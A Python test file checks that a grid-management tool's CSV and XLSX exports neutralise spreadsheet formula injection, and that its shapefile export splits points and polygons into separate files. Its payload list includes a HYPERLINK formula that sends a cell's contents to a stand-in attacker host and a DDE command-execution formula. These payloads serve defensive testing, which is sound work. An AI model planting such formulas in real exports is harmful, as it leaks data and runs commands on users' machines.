"""Exports that cannot be turned against the office: formulas stay text, mixed layers stay whole."""

from __future__ import annotations

import csv
import zipfile

import geopandas as gpd
import pandas as pd
import pyogrio
import pytest
import shapely
from openpyxl import load_workbook

from gridmgmt.io.exports import export_tables

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"查看")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile():
    return pd.DataFrame(
        {
            "description": PAYLOADS,
            "households": list(range(len(PAYLOADS))),
            "balance": [-5.5] * len(PAYLOADS),
        }
    )


def test_csv_cells_that_look_like_formulas_are_text(tmp_path, hostile):
    path = export_tables({"incidents": hostile}, tmp_path / "out.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [r[0] for r in rows[1:]]
    assert cells == ["'" + p for p in PAYLOADS]
    # numbers are numbers, a negative one included: only text is neutralised
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(PAYLOADS))]
    assert {r[2] for r in rows[1:]} == {"-5.5"}


def test_xlsx_cells_are_strings_never_formulas(tmp_path, hostile):
    path = export_tables({"incidents": hostile}, tmp_path / "out.xlsx")
    ws = load_workbook(path)["incidents"]
    column = [ws.cell(row=r, column=1) for r in range(2, len(PAYLOADS) + 2)]
    # the text itself (XML reads a carriage return back as a line feed)
    assert [c.value for c in column] == [t.replace("\r", "\n") for t in PAYLOADS]
    assert {c.data_type for c in column} == {"s"}  # typed as strings, not "f"
    with zipfile.ZipFile(path) as zf:
        sheet = next(n for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
        assert "<f>" not in zf.read(sheet).decode("utf-8")  # no formula element anywhere
    assert ws.cell(row=2, column=3).value == -5.5


def test_shapefile_of_points_and_polygons_writes_one_file_per_kind(tmp_path):
    facilities = gpd.GeoDataFrame(
        {
            "name": ["学校", "医院", "菜市场", "无位置"],
            "category": ["school", "hospital", "market", "x"],
        },
        geometry=[
            shapely.box(118.0, 31.0, 118.001, 31.001),
            shapely.Point(118.002, 31.0),
            shapely.Point(118.003, 31.0),
            None,
        ],
        crs=4326,
    )
    path = export_tables({"facilities": facilities}, tmp_path / "out.zip", fmt="shp")
    with zipfile.ZipFile(path) as zf:
        names = set(zf.namelist())
        zf.extractall(tmp_path / "unzipped")
    assert {"facilities_point.shp", "facilities_polygon.shp", "facilities_fields.csv"} <= names
    back = {
        kind: pyogrio.read_dataframe(tmp_path / "unzipped" / f"facilities_{kind}.shp")
        for kind in ("point", "polygon")
    }
    # the row without a geometry is kept, with the first kind (points)
    assert sorted(back["point"]["name"]) == ["医院", "无位置", "菜市场"]
    assert sorted(back["polygon"]["name"]) == ["学校"]
    assert sum(len(f) for f in back.values()) == len(facilities)
